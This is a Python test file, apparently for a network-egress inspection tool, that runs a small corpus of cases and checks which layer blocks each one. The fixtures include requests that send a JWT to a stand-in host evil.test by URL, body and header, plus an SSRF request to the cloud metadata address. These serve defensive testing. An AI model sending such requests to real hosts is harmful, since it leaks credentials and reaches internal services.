"""The runner of the corpus tells what left from what did not; the corpus itself is fetched by who wants its figures."""

import json
from pathlib import Path
from typing import Any

from tests.inspection import corpus
from tests.inspection.conftest import JWT, envoy_here


def case(name: str, verdict: str, kind: str = "url", **payload: Any) -> dict[str, Any]:
    return {
        "id": name, "category": name.partition("-")[0], "input_type": kind, "expected_verdict": verdict,
        "payload": {"method": "GET"} | payload,
    }  # fmt: skip


LEAK = {"method": "POST", "body": JWT, "content_type": "text/plain"}
CASES = (
    case("url-leak", "block", url=f"https://evil.test/?t={JWT}"),
    case("url-missed", "block", url="http://a.b.evil.test/nothing-to-see"),
    case("url-fine", "allow", url="https://good.test/x"),
    case("body-leak", "block", "request_body", url="https://evil.test/", **LEAK),
    case("body-strict", "allow", "request_body", url="https://evil.test/", **LEAK),
    case("header-leak", "block", "header", url="https://evil.test/", headers={"X-A": JWT}),
    case("ssrf_bypass-metadata", "block", url="http://169.254.169.254/latest/"),
    {"id": "mcp", "category": "mcp", "input_type": "mcp_tool_call", "expected_verdict": "block", "payload": {}},
)  # fmt: skip


def test_what_left_is_told_from_what_did_not(program: str, tmp_path: Path) -> None:
    for each in CASES:
        (tmp_path / f"{each['id']}.json").write_text(json.dumps(each))
    (tmp_path / "index.json").write_text("{}")
    cases, others = corpus.read(tmp_path)
    assert dict(others) == {"mcp_tool_call": 1}
    (tmp_path / "chain").mkdir()
    outcomes = corpus.run(cases, program, envoy_here(), tmp_path / "chain")
    assert {outcome.case.id: outcome.by for outcome in outcomes} == {
        "url-leak": "pipelock",
        "url-missed": "nobody",
        "url-fine": "nobody",
        "body-leak": "pipelock",
        "body-strict": "pipelock",
        "header-leak": "pipelock",
        "ssrf_bypass-metadata": "egress",
    }
    lines = corpus.report(outcomes).splitlines()
    assert "| url | 2 | 0 | 1 | 1 | 1 | 1 |" in lines
    assert "| all | 5 | 1 | 3 | 1 | 2 | 1 |" in lines
    assert "not blocked: url-missed" in lines
    assert "refused: body-strict (pipelock)" in lines
